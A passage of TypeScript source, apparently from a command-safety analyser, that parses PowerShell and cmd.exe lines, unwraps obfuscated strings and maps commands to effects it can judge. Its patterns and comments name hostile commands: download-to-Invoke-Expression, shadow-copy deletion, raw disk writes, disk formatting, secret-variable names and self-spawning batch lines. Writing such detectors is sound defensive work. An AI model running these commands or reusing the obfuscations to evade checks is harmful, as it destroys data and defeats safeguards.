/**
 * @module PowerShell and cmd.exe lines -> the simple commands they run, in the shapes the effect model knows
 * (Remove-Item -Recurse is `rm -r`, `rd /s` is `rm -r`, Get-Content is `cat`, iwr | iex is a fetch piped to a
 * runner). Windows paths become POSIX-like ones: a drive root is `/`, `C:\Users\name` is the home's sibling
 * `name`, so the same path classes apply. One pass over the text; nesting goes through the parser's depth cap.
 */
import { feedStages } from "./pipe-feed.ts";
import type { RedirectInfo, SimpleCommand } from "./types.ts";
import { resolvePath, windowsPath } from "./paths.ts";

export { windowsPath } from "./paths.ts";

/** What the PowerShell reader needs from the parser: where to send each command, and nested scripts. */
export interface WindowsHost {
  readonly home: string;
  /** Records a command and what it runs (unwrapping applies: `powershell -c`, `cmd /c`, `git -c alias`...). */
  run(cmd: SimpleCommand): void;
  powershell(src: string, cwd: string, via: string): void;
  /** A nested cmd.exe line (a batch file written on the line, then run). */
  cmdLine(src: string, cwd: string, via: string): void;
  /** What a file written on this line holds, by resolved path (`Set-Content run.ps1 '...'`, `echo x > b.bat`). */
  written(path: string): string | undefined;
  /** Records what a literal write put in a file, for a later run of it on the line. */
  write(path: string, text: string): void;
  /** Notes that the line is over an analysis cap (judged too complex). */
  note(why: string): void;
}

interface PsWord {
  text: string;
  /** Raw source, quotes included. */
  raw: string;
  quoted: boolean;
}

/** Cmdlets that consume their input without printing it. */
const COUNTS = new Set(["measure-object", "measure", "out-null"]);
const WHERE = new Set(["where-object", "where", "?"]);
/** A name pattern that could select a secret's variable (`*TOKEN*`, `*`, `AWS_*`), or one with too few letters to tell. */
import { SECRET_VAR } from "./secret-names.ts";
const SECRETISH_NAME = /SECRET|TOKEN|PASS|KEY|PRIVATE|CREDENTIAL|AUTH|AWS|AZURE|GITHUB|GH_|NPM|OPENAI|ANTHROPIC|SESSION|COOKIE/i;

/** `Where-Object Name -like 'DOTNET_*'` (or `-match '^NODE_'`, `Key -eq 'PATH'`): a filter of the environment on a plain name. */
function plainNameFilter(where: SimpleCommand | undefined): boolean {
  if (where === undefined || !WHERE.has(where.program)) return false;
  const a = where.argv.slice(1);
  if (a.length !== 3 || !/^(?:\$_\.)?(?:name|key)$/i.test(a[0] ?? "") || !/^-[ic]?(?:like|match|eq)$/i.test(a[1] ?? "") || where.dynamic[3]) return false;
  const pattern = a[2] ?? "";
  return /[A-Za-z]{2}/.test(pattern) && !SECRETISH_NAME.test(pattern);
}
const SEPARATORS = new Set([";", "\n", "&&", "||", "|", "&"]);

/** Index just past the bracket closing the one at `start`, skipping quoted text (unbalanced: the end). */
function balanced(src: string, start: number): number {
  const open = src[start] ?? "(";
  const close = open === "(" ? ")" : open === "{" ? "}" : "]";
  let depth = 0;
  for (let i = start; i < src.length; i++) {
    const c = src[i];
    if (c === "'" || c === '"') {
      const j = src.indexOf(c, i + 1);
      if (j < 0) return src.length;
      i = j;
    } else if (c === "`") i++;
    else if (c === open) depth++;
    else if (c === close && --depth === 0) return i + 1;
  }
  return src.length;
}

/** Characters (by code) at which an unquoted run of a PowerShell word stops for the cases of psTokens. */
const PS_STOPS = new Uint8Array(128);
for (const c of " \t\r\n;|&'\"`({$@") PS_STOPS[c.charCodeAt(0)] = 1;

/** PowerShell tokens: words and separators. Linear: each character is looked at a bounded number of times. */
export function psTokens(src: string): (PsWord | string)[] {
  const out: (PsWord | string)[] = [];
  let i = 0;
  while (i < src.length) {
    const c = src[i] ?? "";
    if (c === " " || c === "\t" || c === "\r") {
      i++;
      continue;
    }
    if (c === "#") {
      const j = src.indexOf("\n", i);
      i = j < 0 ? src.length : j;
      continue;
    }
    if (c === "<" && src[i + 1] === "#") {
      const j = src.indexOf("#>", i + 2);
      i = j < 0 ? src.length : j + 2;
      continue;
    }
    const two = src.slice(i, i + 2);
    if (two === "&&" || two === "||") {
      out.push(two);
      i += 2;
      continue;
    }
    if (c === ";" || c === "\n" || c === "|") {
      out.push(c);
      i++;
      continue;
    }
    if (c === "&" && (out.length === 0 || typeof out[out.length - 1] === "string")) {
      // The call operator: `& "rm" -r x`, `& { ... }`.
      i++;
      continue;
    }
    if (c === "&") {
      out.push("&");
      i++;
      continue;
    }
    // `@'` .. `'@` and `@"` .. `"@` here-strings: the lines between are one string.
    if (c === "@" && (src[i + 1] === "'" || src[i + 1] === '"') && /^[ \t]*\r?\n/.test(src.slice(i + 2, i + 64))) {
      const q = src[i + 1] ?? "'";
      const body = src.indexOf("\n", i);
      const close = src.indexOf(`\n${q}@`, body);
      const end = close < 0 ? src.length : close + 3;
      out.push({ text: src.slice(body + 1, close < 0 ? src.length : close).replace(/\r$/, ""), raw: `${q}${src.slice(body + 1, close < 0 ? src.length : close)}${q}`, quoted: true });
      i = end;
      continue;
    }
    let text = "";
    let quoted = false;
    const start = i;
    while (i < src.length) {
      const d = src[i] ?? "";
      if (d === " " || d === "\t" || d === "\r" || d === "\n" || d === ";" || d === "|" || (d === "&" && src[i + 1] !== "&" ? true : d === "&")) break;
      if (d === "'") {
        quoted = true;
        let j = i + 1;
        for (;;) {
          const k = src.indexOf("'", j);
          if (k < 0) {
            text += src.slice(j);
            j = src.length;
            break;
          }
          text += src.slice(j, k);
          if (src[k + 1] === "'") {
            text += "'";
            j = k + 2;
            continue;
          }
          j = k + 1;
          break;
        }
        i = j;
        continue;
      }
      if (d === '"') {
        quoted = true;
        let j = i + 1;
        while (j < src.length && src[j] !== '"') {
          if (src[j] === "`" && j + 1 < src.length) {
            const e = src[j + 1] ?? "";
            text += e === "n" ? "\n" : e === "t" ? "\t" : e;
            j += 2;
            continue;
          }
          if (src[j] === "$" && src[j + 1] === "(") {
            const k = balanced(src, j + 1);
            text += src.slice(j, k);
            j = k;
            continue;
          }
          // A run of plain characters in one slice, not a string per character.
          let k = j + 1;
          while (k < src.length && src[k] !== '"' && src[k] !== "`" && src[k] !== "$") k++;
          text += src.slice(j, k);
          j = k;
        }
        i = j + 1;
        continue;
      }
      if (d === "`" && i + 1 < src.length) {
        text += src[i + 1];
        i += 2;
        continue;
      }
      if (d === "(" || d === "{" || ((d === "$" || d === "@") && (src[i + 1] === "(" || src[i + 1] === "{"))) {
        const from = d === "(" || d === "{" ? i : i + 1;
        const k = balanced(src, from);
        text += src.slice(i, k);
        i = k;
        continue;
      }
      // A run of plain characters in one slice (each character below is looked at by the cases above).
      let j = i + 1;
      for (; j < src.length; j++) {
        const code = src.charCodeAt(j);
        if (code < 128 && PS_STOPS[code] === 1) break;
      }
      text += src.slice(i, j);
      i = j;
    }
    if (i === start) {
      i++;
      continue;
    }
    out.push({ text, raw: src.slice(start, i), quoted });
  }
  return out;
}

const REMOVE = new Set(["remove-item", "rm", "ri", "del", "erase", "rd", "rmdir"]);
const READ = new Set(["get-content", "gc", "cat", "type"]);
const COPY = new Set(["copy-item", "cp", "copy", "cpi"]);
const MOVE = new Set(["move-item", "mv", "move", "mi"]);
const LIST = new Set(["get-childitem", "gci", "ls", "dir"]);
const FETCH = new Set(["invoke-webrequest", "iwr", "invoke-restmethod", "irm", "curl", "wget", "start-bitstransfer"]);
const IEX = new Set(["invoke-expression", "iex"]);
const START = new Set(["start-process", "saps", "start"]);
const DISK = new Set(["format-volume", "clear-disk", "initialize-disk", "remove-partition", "format-disk", "clear-recyclebin"]);
const DOWNLOAD = /DownloadString|DownloadData|DownloadFile|Invoke-WebRequest|Invoke-RestMethod|\biwr\b|\birm\b|Net\.WebClient|Start-BitsTransfer|HttpClient/i;
// Bounded repeats: a hostile line of many parentheses is scanned in linear time.
const PAREN_FETCH_TO_IEX = /\((?:[^()]|\([^()]{0,256}\)){0,256}?\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|curl|wget|Start-BitsTransfer)\b(?:[^()]|\([^()]{0,256}\)){0,512}?\)[\w.[\]]{0,64}\s*\|\s*(?:&\s*)?(?:iex|Invoke-Expression)\b/i;
const PIPE_TO_IEX = /\|\s*(?:&\s*)?(?:iex|Invoke-Expression)\b/i;
const FETCH_WORD = /\b(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|curl|wget|Start-BitsTransfer)\b/i;
/** sc.exe's verbs: a first word of these makes `sc` the service controller. */
const SC_VERB = /^(?:query|queryex|qc|qdescription|qfailure|start|stop|pause|continue|interrogate|delete|create|config|description|failure|failureflag|sdshow|sdset|control|enumdepend|triggerinfo|privs|sidtype)$/i;
const RUNS_TEXT = /\biex\b|Invoke-Expression|\[scriptblock\]::Create|^\s*[.&]\s*\(/i;

/** Parameters (lower-case, without the dash) whose value is the next word, per cmdlet family. */
const VALUE_PARAMS = ["pattern", "value", "filter", "include", "exclude", "encoding", "totalcount", "head", "tail", "first", "last", "readcount", "delimiter", "stream", "credential", "erroraction", "ea", "warningaction", "outvariable", "ov", "destination", "exclude", "depth", "method", "uri", "body", "headers", "outfile", "infile", "contenttype", "useragent", "driveletter", "filesystem", "newfilesystemlabel", "number", "disknumber", "partitionnumber", "argumentlist", "filepath", "workingdirectory", "verb", "windowstyle", "itemtype"];

/** `-Recurse`, `-Path:` and the colon-bound `-Path:C:\\x` (its value after the colon) are parameters. */
function paramName(w: PsWord): string | undefined {
  // A quoted word is data (`'-Recurse'`), unless only a colon-bound value is quoted (`-Path:"C:\\x"`).
  if (w.quoted && !/^-[A-Za-z][\w-]*:/.test(w.raw)) return undefined;
  const m = /^-([A-Za-z][\w-]*)(?::|$)/.exec(w.text);
  return m?.[1]?.toLowerCase();
}

/** `-Recu` is `-Recurse`: PowerShell accepts any unambiguous prefix of a parameter name. */
function isParam(name: string, full: string, min = 1): boolean {
  return name.length >= min && full.startsWith(name);
}

function dirname(p: string): string {
  const i = p.lastIndexOf("/");
  return i <= 0 ? "/" : p.slice(0, i);
}

const ENV_PATHS: Record<string, (home: string, cwd: string) => string> = {
  userprofile: (h) => h,
  homepath: (h) => h,
  home: (h) => h,
  temp: () => "/tmp",
  tmp: () => "/tmp",
  systemroot: () => "/Windows",
  windir: () => "/Windows",
  // The drive letter, read with what follows it (`$env:HOMEDRIVE$env:HOMEPATH`, `$env:SystemDrive\Windows`).
  systemdrive: () => "C:",
  homedrive: () => "C:",
  programfiles: () => "/Program Files",
  appdata: (h) => `${h}/AppData/Roaming`,
  localappdata: (h) => `${h}/AppData/Local`,
  cd: (_h, cwd) => cwd,
};

/** Expands PowerShell variables it can know; the rest stay as `$name` and mark the word dynamic. */
function psExpand(w: PsWord, vars: Map<string, string>, home: string, cwd: string): { text: string; dynamic: boolean } {
  // `New-PSDrive -Name B -Root .\build; Remove-Item B:\*`: a drive made on the line is its root.
  const drive = w.text.charCodeAt(1) === 58 ? /^([A-Za-z]):[\\/]?/.exec(w.text) : null;
  const root = drive?.[1] !== undefined ? vars.get(`drive:${drive[1].toLowerCase()}`) : undefined;
  if (root !== undefined && drive) return { text: `${root.replace(/[\\/]+$/, "")}/${w.text.slice(drive[0].length).replaceAll("\\", "/")}`.replace(/\/+$/, "") || "/", dynamic: false };
  if (w.raw.startsWith("'")) return { text: windowsPath(w.text, home, cwd), dynamic: false };
  let dynamic = false;
  // `"$([Environment]::GetFolderPath('MyDocuments'))"`: a subexpression the line can evaluate.
  const sub = w.raw.startsWith('"') && w.text.includes("$(") ? w.text.replace(/\$\(([^()]*(?:\([^()]*\)[^()]*)*)\)/g, (m, e: string) => psStringExpr(`(${e})`, vars, home, cwd) ?? m) : w.text;
  // A word with no `$` has no variable to fill in.
  // `$PROFILE.CurrentUserAllHosts`, `$PROFILE.AllUsersAllHosts`: the other profiles PowerShell runs at its start.
  const profiled = sub.replace(/\$profile\.(CurrentUser|AllUsers)(AllHosts|CurrentHost)\b/gi, (_m, who: string, hosts: string) => `${/^all/i.test(who) ? "/Program Files/PowerShell/7" : `${home}/Documents/PowerShell`}/${/^all/i.test(hosts) ? "" : "Microsoft.PowerShell_"}profile.ps1`);
  const text = !profiled.includes("$") ? profiled : profiled.replace(/\$\{?(env:)?([A-Za-z_][\w]*)\}?/g, (m, env: string | undefined, name: string) => {
    const lower = name.toLowerCase();
    if (env === undefined && lower === "home") return home;
    if (env === undefined && lower === "pwd") return cwd;
    if (env === undefined && lower === "profile") return `${home}/Documents/PowerShell/Microsoft.PowerShell_profile.ps1`;
    // `$env:X = '.\tmp'; Remove-Item $env:X`: an environment variable set on the line.
    const set = env !== undefined ? vars.get(`env:${lower}`) : undefined;
    if (set !== undefined && set !== DOWNLOADED) return set;
    if (env !== undefined && Object.hasOwn(ENV_PATHS, lower)) return (ENV_PATHS[lower] as (h: string, c: string) => string)(home, cwd);
    const known = env === undefined ? vars.get(lower) : undefined;
    if (known !== undefined) return known;
    dynamic = true;
    return m;
  });
  return { text: windowsPath(text, home, cwd), dynamic };
}

const DOWNLOADED = "\u0000downloaded";
/** A variable holding a hashtable for splatting (`$p = @{ Path = $HOME }; Remove-Item @p`): its text follows. */
const SPLAT = "\u0000splat:";

/** Cuts an expression at a top-level separator character (outside quotes, brackets and parentheses). */
function topSplit(src: string, sep: string): string[] {
  const out: string[] = [];
  let depth = 0;
  let quote = "";
  let cur = "";
  for (const ch of src) {
    if (quote !== "") {
      if (ch === quote) quote = "";
    } else if (ch === "'" || ch === '"') quote = ch;
    else if (ch === "(" || ch === "[" || ch === "{") depth++;
    else if (ch === ")" || ch === "]" || ch === "}") depth--;
    else if (ch === sep && depth === 0) {
      out.push(cur);
      cur = "";
      continue;
    }
    cur += ch;
  }
  out.push(cur);
  return out;
}

/**
 * The string a PowerShell expression evaluates to, when it is built from literals the line shows:
 * `'Remove'+'-Item'`, `-join ('r','m')`, `'{0} {1}' -f 'rm','~'`, `[char]114 + [char]109`, `"rm " + $env:USERPROFILE`,
 * `[Environment]::GetFolderPath('UserProfile')`, `(Resolve-Path ~)`. Undefined for anything else (the caller fails closed).
 */
export function psStringExpr(raw: string, vars: Map<string, string>, home: string, cwd: string, depth = 0): string | undefined {
  let e = raw.trim();
  if (depth > 8 || e.length > 4096) return undefined;
  // `(Get-Location).Path`, `$PWD.Path`: where the command runs.
  if (/^(?:\(\s*(?:Get-Location|gl|pwd)\s*\)|\$PWD)(?:\.(?:Path|ProviderPath))?$/i.test(e)) return cwd;
  // `(Resolve-Path ~).Path`, `(Get-Item ~).FullName`: the path property of an item the line names is that path.
  const prop = /^(\(.*\))\.(?:Path|ProviderPath|FullName)$/is.exec(e);
  if (prop?.[1] !== undefined && balanced(prop[1], 0) === prop[1].length && /^\(\s*(?:Resolve-Path|rvpa|Convert-Path|cvpa|Get-Item|gi)\s/i.test(prop[1])) return psStringExpr(prop[1], vars, home, cwd, depth + 1);
  while (/^\$?\(.*\)$/s.test(e) && balanced(e, e.indexOf("(")) === e.length) e = e.slice(e.indexOf("(") + 1, -1).trim();
  const join = /^-join\s*(.+)$/is.exec(e);
  if (join?.[1] !== undefined) {
    const items = listItems(join[1], vars, home, cwd, depth);
    return items?.join("");
  }
  const joinBy = topSplit(e, "-");
  if (joinBy.length === 2 && /^join\s+/i.test(joinBy[1] ?? "")) {
    const items = listItems(joinBy[0] ?? "", vars, home, cwd, depth);
    const by = psStringExpr((joinBy[1] ?? "").replace(/^join\s+/i, ""), vars, home, cwd, depth + 1);
    return items !== undefined && by !== undefined ? items.join(by) : undefined;
  }
  const fmt = /^((?:'[^']*'|"[^"]*"))\s+-f\s+(.+)$/is.exec(e);
  if (fmt?.[1] !== undefined && fmt[2] !== undefined) {
    const template = psStringExpr(fmt[1], vars, home, cwd, depth + 1);
    const items = listItems(fmt[2], vars, home, cwd, depth);
    if (template === undefined || items === undefined) return undefined;
    return template.replace(/\{(\d+)\}/g, (_m, n: string) => items[Number(n)] ?? "");
  }
  const terms = topSplit(e, "+");
  if (terms.length > 1) {
    const parts = terms.map((t) => psStringExpr(t, vars, home, cwd, depth + 1));
    return parts.every((x) => x !== undefined) ? parts.join("") : undefined;
  }
  // `'xRemove-Itemx'.Substring(1, 11)`: a piece of a literal.
  const piece = /^('(?:[^']|'')*'|"[^"`$]*")\.Substring\(\s*(\d{1,4})\s*(?:,\s*(\d{1,4})\s*)?\)$/i.exec(e);
  if (piece?.[1] !== undefined) {
    const str = psStringExpr(piece[1], vars, home, cwd, depth + 1);
    const from = Number(piece[2]);
    return str?.slice(from, piece[3] === undefined ? undefined : from + Number(piece[3]));
  }
  // `[string]::new(('..').ToCharArray()[-1..-16])`, `[string]::Join('', ..)`: characters joined.
  const made = /^\[string\]::new\((.*)\)$/is.exec(e);
  if (made?.[1] !== undefined) return listItems(made[1], vars, home, cwd, depth)?.join("");
  const joined = /^\[string\]::Join\(\s*('(?:[^']|'')*'|"[^"`$]*")\s*,\s*(.+)\)$/is.exec(e);
  if (joined?.[1] !== undefined && joined[2] !== undefined) {
    const by = psStringExpr(joined[1], vars, home, cwd, depth + 1);
    const items = listItems(joined[2], vars, home, cwd, depth);
    return by !== undefined && items !== undefined ? items.join(by) : undefined;
  }
  const ch = /^(?:\[string\]\s*)?\[char\]\s*(\d{1,5})$/i.exec(e);
  if (ch?.[1] !== undefined) return String.fromCharCode(Number(ch[1]));
  if (/^'(?:[^']|'')*'$/s.test(e)) return e.slice(1, -1).replaceAll("''", "'");
  if (/^"[^"`]*"$/s.test(e)) {
    const x = psExpand({ text: e.slice(1, -1), raw: e, quoted: true }, vars, home, cwd);
    return x.dynamic ? undefined : x.text;
  }
  if (/^\$(?:env:)?\w+$/i.test(e)) {
    const x = psExpand({ text: e, raw: e, quoted: false }, vars, home, cwd);
    return x.dynamic ? undefined : x.text;
  }
  const full = /^\[(?:System\.)?IO\.Path\]::(GetFullPath|Combine)\((.*)\)$/is.exec(e);
  if (full?.[1] !== undefined && full[2] !== undefined) {
    const items = listItems(full[2], vars, home, cwd, depth);
    if (items === undefined || items.length === 0) return undefined;
    const joined = items.map((x) => x.replaceAll("\\", "/")).join("/");
    return resolvePath(windowsPath(joined, home), cwd, home);
  }
  const folder = /^\[(?:System\.)?Environment\]::GetFolderPath\(\s*['"]?(?:\[Environment\+SpecialFolder\]::)?(\w+)['"]?\s*\)$/i.exec(e);
  if (folder?.[1] !== undefined) return Object.hasOwn(SPECIAL_FOLDERS, folder[1].toLowerCase()) ? SPECIAL_FOLDERS[folder[1].toLowerCase()]?.(home) : undefined;
  const resolve = /^(?:Resolve-Path|rvpa|Convert-Path|cvpa|Get-Item|gi)\s+(?:-(?:Path|LiteralPath)\s+)?(\S+)$/i.exec(e);
  if (resolve?.[1] !== undefined) {
    const t = psTokens(resolve[1]).find((x): x is PsWord => typeof x !== "string");
    const x = t ? psExpand(t, vars, home, cwd) : undefined;
    return x && !x.dynamic ? x.text : undefined;
  }
  return undefined;
}

function listItems(src: string, vars: Map<string, string>, home: string, cwd: string, depth: number): string[] | undefined {
  let e = src.trim();
  if (/^@?\(.*\)$/s.test(e) && balanced(e, e.indexOf("(")) === e.length) e = e.slice(e.indexOf("(") + 1, -1).trim();
  // `[char[]](82,101,109)`: the characters of those codes.
  const codes = /^\[char\[\]\]\s*\(\s*(\d{1,5}(?:\s*,\s*\d{1,5}){0,255})\s*\)$/i.exec(e);
  if (codes?.[1] !== undefined) return codes[1].split(",").map((n) => String.fromCharCode(Number(n.trim())));
  // `'metI-evomeR'[-1..-11]`, `('..').ToCharArray()[-1..-16]`: characters of a literal picked by a range (reversed when it runs down).
  const range = /^\(?\s*('(?:[^']|'')*')\s*\)?(?:\.ToCharArray\(\))?\[\s*(-?\d{1,4})\s*\.\.\s*(-?\d{1,4})\s*\]$/i.exec(e);
  if (range?.[1] !== undefined) {
    const str = [...(psStringExpr(range[1], vars, home, cwd, depth + 1) ?? "")];
    const a = Number(range[2]);
    const b = Number(range[3]);
    if (Math.abs(b - a) > 4096) return undefined;
    const out: string[] = [];
    for (let k = a; a <= b ? k <= b : k >= b; k += a <= b ? 1 : -1) {
      const c = str[k < 0 ? str.length + k : k];
      if (c !== undefined) out.push(c);
    }
    return out;
  }
  const items = topSplit(e, ",").map((t) => psStringExpr(t, vars, home, cwd, depth + 1));
  return items.length <= 256 && items.every((x) => x !== undefined) ? (items as string[]) : undefined;
}

const SPECIAL_FOLDERS: Record<string, (home: string) => string> = {
  userprofile: (h) => h,
  personal: (h) => `${h}/Documents`,
  mydocuments: (h) => `${h}/Documents`,
  desktop: (h) => `${h}/Desktop`,
  desktopdirectory: (h) => `${h}/Desktop`,
  applicationdata: (h) => `${h}/AppData/Roaming`,
  localapplicationdata: (h) => `${h}/AppData/Local`,
  windows: () => "/Windows",
  system: () => "/Windows/System32",
  programfiles: () => "/Program Files",
};

/** Cmdlets a `Get-Command` pattern may name (`gcm Rem*-It*`): the ones whose effect the reader knows. */
/** Cmdlets whose `-FilePath` names the file they write (Start-Process's names a program to run). */
const FILE_PATH_CMDLETS = new Set(["out-file", "tee-object", "tee"]);
const KNOWN_CMDLETS = ["remove-item", "get-childitem", "get-content", "set-content", "add-content", "clear-content", "copy-item", "move-item", "invoke-expression", "invoke-webrequest", "invoke-restmethod", "start-process", "format-volume", "clear-disk", "remove-partition", "out-file", "new-item"];

/** `(gcm Remove-Item)`, `(Get-Command Rem*-It*)`, `(Get-Alias ri)`: the command it names. */
function commandNamed(raw: string): string | undefined {
  const m = /^\(\s*(?:gcm|Get-Command|Get-Alias|gal)\s+(?:-Name\s+)?['"]?([\w*?.-]+)['"]?\s*\)$/i.exec(raw.trim());
  if (m?.[1] === undefined) return undefined;
  const name = m[1].toLowerCase();
  if (!/[*?]/.test(name)) return name;
  const re = new RegExp(`^${name.replace(/[.+^${}()|[\]\\-]/g, "\\$&").replace(/\*/g, ".*").replace(/\?/g, ".")}$`);
  return KNOWN_CMDLETS.find((c) => re.test(c));
}

/** `@p` with `$p = @{ Path = $HOME; Recurse = $true }`: the parameters the hashtable binds, as words. */
function splatWords(w: PsWord, vars: Map<string, string>): PsWord[] {
  const held = /^@(\w+)$/.test(w.raw) ? vars.get(w.raw.slice(1).toLowerCase()) : undefined;
  if (held === undefined || !held.startsWith(SPLAT)) return [w];
  const out: PsWord[] = [];
  for (const pair of topSplit(held.slice(SPLAT.length), ";").flatMap((x) => x.split("\n"))) {
    const m = /^\s*['"]?([A-Za-z]\w*)['"]?\s*=\s*(.+?)\s*$/s.exec(pair);
    if (m?.[1] === undefined || m[2] === undefined) continue;
    if (/^\$false$/i.test(m[2])) continue;
    out.push({ text: `-${m[1]}`, raw: `-${m[1]}`, quoted: false });
    if (/^\$true$/i.test(m[2])) continue;
    const v = psTokens(m[2]).find((x): x is PsWord => typeof x !== "string");
    if (v) out.push(v);
  }
  return out;
}

const CONDITIONAL = /^(?:if|elseif|while|until|switch)$/i;
/** A comma list of plain string literals (no expansion in them). */
const LITERAL_LIST = /^\s*(?:'(?:[^']|'')*'|"[^"$`]*")(?:\s*,\s*(?:'(?:[^']|'')*'|"[^"$`]*"))*\s*$/;
/** Statements a keyword starts: only their blocks and parenthesised parts run. */
const KEYWORDS = /^(?:if|elseif|else|while|until|do|for|foreach|switch|try|catch|finally|trap)$/i;
const CONDITION_VALUE = /^\(\s*(?:!|-not\s+)?\$[\w:{}]+(?:\s+-(?:eq|ne|gt|lt|ge|le|like|notlike|match|notmatch)\s+(?:'[^']*'|"[^"$]*"|\$null|\d+))?\s*\)$/i;
/** `(Join-Path $HOME '.ssh/id_rsa')` -> its path, `(Split-Path $PWD)` -> the parent; other subexpressions stay unknown. */
function joinPath(raw: string, vars: Map<string, string>, home: string, cwd: string): string | undefined {
  const split = /^\(\s*Split-Path\s+(?:-Path\s+)?(\S+)\s*\)$/i.exec(raw);
  if (split?.[1]) {
    const t = psTokens(split[1]).find((x): x is PsWord => typeof x !== "string");
    const p = t ? psExpand(t, vars, home, cwd).text.replace(/\/+$/, "") : "";
    return p.startsWith("/") ? dirname(p) : undefined;
  }
  const m = /^\(\s*Join-Path\s+(.+)\)$/i.exec(raw);
  if (!m?.[1]) return undefined;
  const parts = psTokens(m[1]).filter((t): t is PsWord => typeof t !== "string" && paramName(t) === undefined);
  if (parts.length < 2) return undefined;
  // `Join-Path ([Environment]::GetFolderPath('UserProfile')) 'Documents'`: a part may be an expression the line can evaluate.
  const part = (p: PsWord) => (/^\(/.test(p.raw) ? (psStringExpr(p.raw, vars, home, cwd) ?? psExpand(p, vars, home, cwd).text) : psExpand(p, vars, home, cwd).text);
  return parts.map((p) => part(p).replace(/\/+$/, "")).join("/");
}

/**
 * A path argument's value, however it is bound (positional, `-Path X`, `-Path:X`): a `Join-Path` or an expression
 * the line can evaluate, else the expanded word; an expression it cannot (`(Get-Item x).FullName`) is of unknown value.
 */
function pathValue(w: PsWord, vars: Map<string, string>, home: string, cwd: string): { text: string; dynamic: boolean } {
  const joined = joinPath(w.raw, vars, home, cwd) ?? (/^\(|^\$PWD\./i.test(w.raw) ? psStringExpr(w.raw, vars, home, cwd) : undefined);
  if (joined !== undefined) return { text: joined, dynamic: false };
  const e = psExpand(w, vars, home, cwd);
  return { text: e.text, dynamic: e.dynamic || (!w.quoted && /^[$@]?\(/.test(w.raw)) };
}

function simple(argv: string[], dynamic: boolean[], cwd: string, via: string[], synthetic = false): SimpleCommand {
  const first = (argv[0] ?? "").replaceAll("\\", "/");
  const program = first.slice(first.lastIndexOf("/") + 1).toLowerCase().replace(/\.(?:exe|cmd|bat|com|ps1)$/, "");
  return { argv: [program, ...argv.slice(1)], dynamic, program, cwd, redirects: [], pipeTo: [], via, synthetic, stdinArgs: false, ignoresStdinCode: undefined, pipeFrom: undefined, captured: undefined, selfSpawn: undefined, wrapsFrom: undefined, recipesRead: undefined, memo: undefined };
}

/** Reads a PowerShell line and hands every command it runs to the host. */
export function readPowerShell(src: string, cwd: string, via: string[], host: WindowsHost): void {
  const vars = new Map<string, string>();
  // `Get-WmiObject Win32_ShadowCopy | % { $_.Delete() }`: the shadow copies (the system's backups) deleted.
  if (/Win32_ShadowCopy/i.test(src) && /\.Delete\(|Remove-(?:Wmi|Cim)(?:Object|Instance)/i.test(src)) host.run(simple(["vssadmin", "delete", "shadows"], [false, false, false], cwd, via, true));
  // `[IO.File]::WriteAllBytes('\\.\PhysicalDrive0', ..)`, `[IO.File]::OpenWrite('\\.\C:')`: .NET writing a raw drive.
  for (const m of src.matchAll(/(?:\[(?:System\.)?IO\.File\]::(?:WriteAll\w*|OpenWrite|Open|Create|AppendAll\w*)|IO\.FileStream)\s*\(?\s*\(?\s*['"]\\\\[.?]\\(PhysicalDrive\d+|[A-Za-z]:)['"]/gi)) host.run(simple(["dd", `of=/unc/./${m[1] ?? ""}`], [false, false], cwd, via, true));
  // `(iwr URL -UseBasicParsing).Content | Invoke-Expression`: a download's value, taken in parentheses, piped into iex.
  if (PIPE_TO_IEX.test(src) && FETCH_WORD.test(src) && PAREN_FETCH_TO_IEX.test(src)) {
    const fetch = simple(["invoke-webrequest"], [false], cwd, via, true);
    fetch.pipeTo = ["iex"];
    host.run(fetch);
  }
  // `[IO.File]::WriteAllText("$HOME/.claude/settings.json", '{}')`, `[System.IO.File]::Copy($a, 'C:\x', $true)`: .NET writing a
  // file (the first argument; Copy, Move and Replace write their second), read as `tee` of it; Delete as `rm`.
  for (const m of src.slice(0, 1 << 16).matchAll(/\[(?:System\.)?IO\.File\]::(\w+)\s*\(\s*((['"])[^'"]*\3|\$[\w:]+)(?:\s*,\s*((['"])[^'"]*\5|\$[\w:]+))?/gi)) {
    const method = (m[1] ?? "").toLowerCase();
    const which = /^(?:copy|move|replace)$/.test(method) ? m[4] : /^(?:write|append|create|open|delete|set|encrypt|decrypt)/.test(method) ? m[2] : undefined;
    // A raw drive (`\\.\PhysicalDrive0`) is the device write above.
    if (which === undefined || /^['"]\\\\[.?]\\/.test(which)) continue;
    const target = pathValue({ text: which.replace(/^['"]|['"]$/g, ""), raw: which, quoted: /^['"]/.test(which) }, vars, host.home, cwd);
    host.run(simple([method === "delete" ? "rm" : "tee", target.text], [false, target.dynamic], cwd, via, true));
  }
  if (spawnsUnbounded(src)) {
    const bomb = simple(["start-process"], [false], cwd, via, true);
    bomb.selfSpawn = true;
    host.run(bomb);
  }
  const tokens = psTokens(src);
  let stage: PsWord[] = [];
  let pipeline: SimpleCommand[][] = [];
  const flushPipeline = () => {
    feedStages(pipeline, host.note);
    for (let k = 0; k < pipeline.length; k++)
      for (const c of pipeline[k] ?? []) {
        // `Get-ChildItem Env: | Measure-Object`: counted, never printed; `| Where-Object Name -like 'DOTNET_*'`: only
        // variables of a name that is no secret's are printed.
        if (c.synthetic && c.program === "cat" && c.argv[1] === "env:" && c.pipeTo.length > 0 && (COUNTS.has(c.pipeTo[0] ?? "") || plainNameFilter(pipeline[k + 1]?.[0]))) continue;
        host.run(c);
      }
    pipeline = [];
  };
  const end = (sep: string | undefined) => {
    if (stage.length > 0) {
      const prev = pipeline[pipeline.length - 1]?.[0];
      pipeline.push(psStatement(stage, vars, cwd, via, host, prev));
    }
    stage = [];
    if (sep !== "|") flushPipeline();
  };
  for (const t of tokens) {
    if (typeof t === "string") {
      if (SEPARATORS.has(t)) end(t);
      continue;
    }
    stage.push(t);
  }
  end(undefined);
  // A function defined and never called on the line is judged as written (its parameters unknown), as a shell function is.
  for (const [key, body] of vars) if (key.startsWith("fn:") && !vars.has(`called:${key.slice(3)}`)) host.powershell(body.slice(BLOCK.length), cwd, `function ${key.slice(3)} (as written)`);
}

/** Function calls per line whose body is read again with the call's arguments. */
const MAX_CALLS = 64;

/** A script block's text held in a variable (`$sb = { param($x) ... }`), or a function's body (`fn:NAME`). */
const BLOCK = "\u0000block:";

/** A batch file that starts itself again: `%0|%0`, `%0 & %0`, `start %0` (each copy starts more). */
export const BATCH_SELF = /%~?[dpnxfs]*0\s*(?:\||&)\s*%~?[dpnxfs]*0|\bstart\b[^\n]{0,64}%~?[dpnxfs]*0/i;

/** Cmdlets that start another process or job; in an endless loop or a function calling itself, without bound. */
